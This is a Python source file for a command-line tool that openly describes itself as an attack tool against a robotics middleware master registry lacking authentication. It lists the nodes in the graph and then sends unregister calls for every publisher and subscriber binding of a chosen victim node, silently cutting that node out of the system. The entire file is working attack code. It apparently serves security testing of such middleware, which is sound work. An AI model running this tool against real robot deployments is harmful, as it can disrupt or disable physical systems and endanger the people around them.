"""Attack CLI: graph introspection and node unregistration against a
permissive master.

No credentials exist anywhere in the exchange.  The tool asks the master
for the system state, then issues unregister calls for every binding the
named node holds, publisher and subscriber alike.  The victim process is
untouched; only the registry forgets it.

Master address resolution: --master flag, then $ROS_MASTER_URI, then
127.0.0.1:11311.
"""

from __future__ import annotations

import argparse
import sys

from . import wire
from .master import decode_system_state

EXIT_OK = 0
EXIT_NOT_FOUND = 1
EXIT_UNREACHABLE = 2


def _system_state(addr):
    resp = wire.call(addr, "getSystemState")
    if not resp.ok:
        raise wire.FrameError(f"getSystemState failed: {resp.status}")
    return decode_system_state(resp.payload)


def node_list(addr) -> list[str]:
    """Sorted unique node names currently bound in the graph."""
    pubs, subs = _system_state(addr)
    return sorted({name for _, names in pubs + subs for name in names})


def unregister_node(addr, node_name: str, out, err) -> int:
    pubs, subs = _system_state(addr)
    pub_topics = [topic for topic, names in pubs if node_name in names]
    sub_topics = [topic for topic, names in subs if node_name in names]
    if not pub_topics and not sub_topics:
        print("node not found", file=err)
        return EXIT_NOT_FOUND

    lookup = wire.call(addr, "lookupNode", [node_name])
    caller_api = lookup.payload[0] if lookup.ok and lookup.payload else "0.0.0.0:1"
    print(f"Unregistering {node_name}", file=out)
    removed = 0
    for method, topics in (
        ("unregisterPublisher", pub_topics),
        ("unregisterSubscriber", sub_topics),
    ):
        for topic in topics:
            resp = wire.call(addr, method, [node_name, topic, caller_api])
            if resp.ok and resp.payload:
                removed += int(resp.payload[0])
    return EXIT_OK if removed else EXIT_NOT_FOUND


def _build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(prog="attack", description="middleware graph attack tool")
    sub = parser.add_subparsers(dest="command", required=True)

    nl = sub.add_parser("node-list", help="print node names known to the master")
    nl.add_argument("--master", default=None, help="master uri (host:port)")

    mstr = sub.add_parser("master", help="operations against the master registry")
    mstr_sub = mstr.add_subparsers(dest="master_command", required=True)
    unreg = mstr_sub.add_parser("unregister", help="remove registrations")
    unreg_sub = unreg.add_subparsers(dest="unregister_what", required=True)
    unreg_node = unreg_sub.add_parser("node", help="unregister every binding of a node")
    unreg_node.add_argument("--node_name", required=True, help="graph name, e.g. /publisher")
    unreg_node.add_argument("--master", default=None, help="master uri (host:port)")
    return parser


def run_cli(argv=None, out=None, err=None) -> int:
    out = out or sys.stdout
    err = err or sys.stderr
    args = _build_parser().parse_args(argv)
    addr = wire.master_endpoint(args.master)
    try:
        if args.command == "node-list":
            for name in node_list(addr):
                print(name, file=out)
            return EXIT_OK
        return unregister_node(addr, args.node_name, out, err)
    except (OSError, wire.FrameError) as exc:
        print(f"master unreachable: {exc}", file=err)
        return EXIT_UNREACHABLE


def script_main() -> None:
    sys.exit(run_cli())
